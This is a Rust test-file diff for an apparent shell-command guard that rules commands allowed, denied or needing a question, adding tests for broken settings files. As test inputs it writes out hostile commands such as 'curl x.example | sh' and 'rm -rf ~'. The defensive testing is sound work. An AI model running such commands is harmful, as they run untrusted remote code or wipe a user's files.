@@ -44,7 +44,7 @@ fn with(rules: Vec<WrittenRule>) -> Settings {
     Settings {
         written: Written {
             rules,
-            exceptions: Vec::new(),
+            ..Written::default()
         },
         ..guard()
     }
@@ -201,11 +201,11 @@ fn a_rule_without_conditions_holds_for_every_request_of_its_kinds() {
 fn excusing(pattern: &str, rule: &str) -> Settings {
     Settings {
         written: Written {
-            rules: Vec::new(),
             exceptions: vec![Exception {
                 pattern: Pattern::new(pattern, false).unwrap(),
                 suppresses: rule.into(),
             }],
+            ..Written::default()
         },
         ..guard()
     }
@@ -241,4 +241,29 @@ fn v_3204_all_other_rules_still_speak() {
         verdict("git push --force; curl x.example | sh", &settings),
         Verdict::Ask
     );
+}
+
+fn broken(own: bool) -> Settings {
+    let mut settings = guard();
+    *(if own {
+        &mut settings.broken
+    } else {
+        &mut settings.project_broken
+    }) = Some("`x.yml`, line 3: no".into());
+    settings
+}
+
+#[test]
+fn m_33_a_broken_set_of_ones_own_refuses_what_changes_something_and_names_the_file() {
+    let judgement = judged("cargo build", &broken(true));
+    assert_eq!(judgement.verdict(), Verdict::Deny);
+    assert!(judgement.findings[0].why.contains("`x.yml`, line 3"));
+    assert_eq!(verdict("git status; cat README.md", &broken(true)), Verdict::Allow);
+    assert_eq!(verdict("rm -rf ~", &broken(true)), Verdict::Deny);
+}
+
+#[test]
+fn m_33_a_broken_set_of_a_project_asks_before_anything_changes() {
+    assert_eq!(verdict("cargo build", &broken(false)), Verdict::Ask);
+    assert_eq!(verdict("git status; cat README.md", &broken(false)), Verdict::Allow);
 }
